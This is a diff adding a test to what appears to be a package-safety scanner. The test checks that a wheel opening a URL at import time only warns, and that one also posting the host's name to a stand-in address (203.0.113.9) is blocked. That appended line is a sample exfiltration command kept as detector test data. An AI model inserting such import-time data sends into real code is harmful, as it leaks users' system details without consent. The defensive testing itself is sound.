@@ -694,3 +694,24 @@ def test_zip_members_not_read_count_only_towards_the_declared_cap(tmp_path: Path
     assert "native/__init__.py" in archive_read.contents
     with pytest.raises(UnsafeArchive, match="declares more than"):
         read_archive(path, path.name, wanted, Limits(declared=1000))
+
+
+def test_a_library_opening_a_configured_url_while_it_loads_only_warns(tmp_path: Path) -> None:
+    """The shape of matplotlib's rc loading: module-level code reads a settings
+    file through a helper that opens it as a URL when given one. A lone network
+    call at import time warns; it takes something more to block."""
+    init = (
+        "import os\nimport urllib.request\n\n"
+        "def _open(fname):\n"
+        "    if fname.startswith(('http://', 'https://')):\n"
+        "        return urllib.request.urlopen(fname)\n"
+        "    return open(fname)\n\n"
+        "settings = _open(os.path.join(os.path.dirname(__file__), 'demorc'))\n"
+    )
+    result = scan(wheel(tmp_path, {"demo/__init__.py": init}))
+    assert result.level == "warn", result.findings
+    sending = (
+        init
+        + "urllib.request.urlopen('https://203.0.113.9/c', data=os.uname().nodename.encode())\n"
+    )
+    assert scan(wheel(tmp_path, {"demo/__init__.py": sending})).level == "block"
